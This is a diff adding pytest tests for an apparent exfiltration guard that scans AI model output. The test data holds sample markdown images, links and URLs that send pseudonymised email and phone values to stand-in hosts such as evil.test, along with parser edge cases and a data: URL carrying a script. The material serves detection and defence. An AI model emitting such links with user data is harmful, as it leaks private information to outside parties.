@@ -147,3 +147,49 @@ def test_images_with_any_title_quoting(run_guard: Any, title: str) -> None:
     output = f"![x](https://evil.example/p.png {title}) done"
     (found,) = run_guard("exfiltration")(output, "output")
     assert output[found.start : found.end] == f"![x](https://evil.example/p.png {title})"
+
+
+@pytest.mark.parametrize(
+    ("output", "entity", "score"),
+    [
+        ("![x](https://evil.test/p.png?d=<EMAIL_1>)", "image", 0.95),
+        ("![x](https://evil.test/<EMAIL_1>.png)", "image", 0.95),
+        ("![x](https://evil.test/p.png?d=a<b)", "image", 0.7),
+        ("[c](https://evil.test/c?u=<EMAIL_1>&v=<PHONE_1>)", "link", 0.85),
+        ("see https://evil.test/c?u=<EMAIL_1>", "url", 0.68),
+        ("[x](data:text/html,<script>alert(1)</script>)", "link", 0.7),
+        ("![x](https://evil.test/p.png?d=((((a)b)c)d))", "image", 0.7),
+        ("![x](https://evil.test/p\\(.png)", "image", 0.7),
+        ("![x](<https://evil.test/p.png?d=a(b c>)", "image", 0.7),
+        ("![x](https://evil.test/p.png" + " " * 40 + "\n  'title'  )", "image", 0.7),
+    ],
+)
+def test_destinations_as_commonmark_reads_them(
+    run_guard: Any, output: str, entity: str, score: float
+) -> None:
+    """``<`` and quotes belong to a raw destination, parentheses balance at any depth or are
+    escaped, ``<...>`` holds spaces and unbalanced parentheses; a pseudonym of the vault
+    (``<EMAIL_1>``) is data: the value comes back in the URL after the guards ran."""
+    (found,) = run_guard("exfiltration")(output, "output")
+    assert (found.entity, found.score, found.end) == (entity, score, len(output))
+
+
+def test_a_pseudonym_in_a_url_is_removed_with_it() -> None:
+    policy = Policy(guards={"prompt_injection": {"enabled": False}})
+    html = '<img src="https://evil.test/p.png?d=<EMAIL_1>">'
+    assert scan(html, direction="output", policy=policy).text == '<img src="[image removed]">'
+    bare = scan("go to https://evil.test/c?u=<EMAIL_1> now", direction="output", policy=policy)
+    assert bare.text == "go to [link removed] now"
+
+
+@pytest.mark.parametrize(
+    "output",
+    [
+        "[x](https://evil.test/p.png?d=((a)",  # a parenthesis never closed: no link
+        "[x](https://evil.test/p.png?d=a b)",  # a space ends a raw destination: no link
+        "[x](<https://evil.test/p.png?d=a<b>)",  # "<" inside <...>: no link
+        "![x](./img/a(1).png) and [m](mailto:jane@example.com)",
+    ],
+)
+def test_what_commonmark_reads_as_no_outside_link(run_guard: Any, output: str) -> None:
+    assert run_guard("exfiltration")(output, "output") == []
